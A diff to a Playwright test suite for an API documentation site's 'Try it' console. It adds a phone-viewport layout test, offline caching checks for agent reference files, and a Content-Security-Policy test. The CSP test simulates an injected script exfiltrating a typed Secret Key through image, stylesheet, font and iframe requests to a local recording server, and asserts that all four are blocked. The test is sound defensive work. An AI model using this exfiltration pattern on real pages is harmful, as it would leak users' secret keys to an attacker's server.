@@ -4,7 +4,9 @@
 // operation is sent with its examples, every worked mistake gets its documented status, the link
 // round-trips, the samples are rewritten with what was sent, a local node:http sandbox can be the
 // target instead, and nothing is ever sent to the real service's hosts.
-import { mkdirSync } from 'node:fs';
+import { mkdirSync, readFileSync } from 'node:fs';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
 import { type Sandbox, startSandbox } from '@merchant-ordering/sandbox';
 import { serveStatic } from '@merchant-ordering/tools/static-server.mjs';
@@ -119,6 +121,50 @@ describe('the Try it console', () => {
     await dialog.screenshot({ path: join(shots, `mistake-${operation.operationId}-${mistake.id}.png`) });
   });
 });
+
+describe('on a phone', () => {
+  // 390 px: an iPhone 12 to 15 in portrait. Every operation's dialog, filled in and answered, fits the
+  // viewport: nothing in it reaches past either edge, so no field, picker or answer is cut.
+  it.each(operations.map((operation) => [operation.summary, operation]))('fits %s into a 390 px viewport, after an answer too', async (_, operation) => {
+    const phone = await browser.newContext({ viewport: { width: 390, height: 844 }, isMobile: true, hasTouch: true });
+    watch(phone);
+    try {
+      const tab = await phone.newPage();
+      const dialog = await openConsole(tab, operation);
+      expect(await overflowing(dialog), 'before Send').toEqual([]);
+      expect((await sendAndRead(dialog)).status).toBe(200);
+      expect(await overflowing(dialog), 'after the answer').toEqual([]);
+      await dialog.getByLabel('A local sandbox').check();
+      expect(await overflowing(dialog), 'with the local sandbox URL').toEqual([]);
+      await dialog.screenshot({ path: join(shots, `phone-${operation.operationId}.png`) });
+    } finally {
+      await phone.close();
+    }
+  });
+});
+
+/**
+ * The dialog's elements that reach past the viewport's left or right edge, or past the dialog's own
+ * (which would cut them: the dialog scrolls), named for a failure message.
+ */
+function overflowing(dialog: Locator): Promise<string[]> {
+  return dialog.evaluate((root) => {
+    const frame = root.getBoundingClientRect();
+    const left = Math.max(0, frame.left);
+    const right = Math.min(document.documentElement.clientWidth, frame.right);
+    const found: string[] = [];
+    for (const element of [root, ...root.querySelectorAll('*')]) {
+      const box = element.getBoundingClientRect();
+      if (box.width === 0 && box.height === 0) continue;
+      const outside = element === root ? box.left < -0.5 || box.right > document.documentElement.clientWidth + 0.5 : box.left < left - 0.5 || box.right > right + 0.5;
+      if (outside) {
+        const name = element.getAttribute('aria-label') ?? element.getAttribute('data-parameter') ?? element.className;
+        found.push(`${element.tagName.toLowerCase()} ${name}: ${Math.round(box.left)} to ${Math.round(box.right)} px, the dialog ${Math.round(left)} to ${Math.round(right)}`);
+      }
+    }
+    return found;
+  });
+}
 
 describe('the share link', () => {
   it('carries the form: opened in a new page, it gives the same form and sends the same request', async () => {
@@ -276,6 +322,59 @@ describe('the real service', () => {
   });
 });
 
+describe("the page's Content-Security-Policy", () => {
+  // A script in the page (an injected one, say) holds the typed Secret Key: it must not carry it to
+  // another origin as an image, a stylesheet, a font or a frame either. The other origin here is a
+  // server on this machine, reachable were the policy to allow it, that records what it is asked for.
+  let other: { url: string; asked: string[]; close: () => Promise<void> };
+  beforeAll(async () => {
+    const asked: string[] = [];
+    const server = createServer((request, response) => {
+      asked.push(request.url ?? '');
+      response.end();
+    });
+    await new Promise<void>((listening) => server.listen(0, '127.0.0.1', () => listening()));
+    const { port } = server.address() as AddressInfo;
+    other = { url: `http://127.0.0.1:${port}`, asked, close: () =>
+        new Promise((closed) => {
+          server.close(() => closed());
+          server.closeAllConnections(); // Chromium may hold an idle socket open; no request came on it
+        }),
+    };
+  });
+  afterAll(async () => {
+    await other?.close();
+  });
+
+  it('refuses an image, a stylesheet, a font and a frame from another origin, carrying the typed Secret Key', async () => {
+    const dialog = await openConsole(page, operation('getConfiguration'));
+    await dialog.getByLabel('Secret Key').fill('typed-secret');
+    const secret = await dialog.getByLabel('Secret Key').inputValue();
+    const refused = await page.evaluate(async ([origin, secret]) => {
+      const violations: string[] = [];
+      document.addEventListener('securitypolicyviolation', (event) => violations.push(`${event.effectiveDirective} ${event.blockedURI}`));
+      const leak = `${origin}/leak?key=${secret}`;
+      const image = Object.assign(document.createElement('img'), { src: `${leak}&as=image` });
+      const sheet = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${leak}&as=stylesheet` });
+      const font = Object.assign(document.createElement('style'), { textContent: `@font-face { font-family: leak; src: url(${leak}&as=font); } body { font-family: leak; }` });
+      const frame = Object.assign(document.createElement('iframe'), { src: `${leak}&as=frame` });
+      document.body.append(image, sheet, font, frame);
+      await new Promise((settled) => setTimeout(settled, 1000));
+      return violations.map((violation) => violation.replace(origin, 'OTHER')).sort();
+    }, [other.url, secret] as const);
+    expect(refused).toEqual([
+      'font-src OTHER/leak?key=typed-secret&as=font',
+      // A frame's report names only the origin it would have opened.
+      'frame-src OTHER',
+      'img-src OTHER/leak?key=typed-secret&as=image',
+      'style-src-elem OTHER/leak?key=typed-secret&as=stylesheet',
+    ]);
+    expect(other.asked).toEqual([]);
+    // Chromium logs each refusal as a console error: expected here, and only these.
+    for (const problem of problems.splice(0)) expect(problem).toMatch(/Content Security Policy/);
+  });
+});
+
 describe('offline', () => {
   it('keeps working once the site has been visited, with the static host gone', async () => {
     const own = await serveStatic({ root: dist, prefix: SUB_PATH });
@@ -286,11 +385,17 @@ describe('offline', () => {
       await tab.goto(`${own.url}#/payments/listpayments`);
       await tab.getByRole('button', { name: 'Try it' }).first().click();
       expect((await sendAndRead(tab.getByRole('dialog'))).status).toBe(200);
+      // The agents' reference is kept with the rest of the site, though the page never loaded it.
+      const agentFiles = ['llms.txt', 'llms-full.txt', 'operations/list-payments.md'];
+      const kept = () => tab.evaluate(async (files) => (await Promise.all(files.map((file) => caches.match(new URL(file, location.href).href)))).every(Boolean), agentFiles);
+      await expect.poll(kept, { timeout: 20_000 }).toBe(true);
       await own.close(); // the host goes away: every file now comes from the visit before
       await tab.reload();
       await tab.getByRole('button', { name: 'Try it' }).first().click();
       const answer = await sendAndRead(tab.getByRole('dialog'));
       expect(answer.status, answer.body).toBe(200);
+      const offline = await tab.evaluate(async (files) => Promise.all(files.map(async (file) => (await fetch(file)).text())), agentFiles);
+      expect(offline).toEqual(agentFiles.map((file) => readFileSync(join(dist, file), 'utf8')));
       await tab.screenshot({ path: join(shots, 'offline.png') });
       problems.splice(0).forEach((problem) => expect(problem).toMatch(/ERR_CONNECTION_REFUSED|Failed to load resource/));
     } finally {
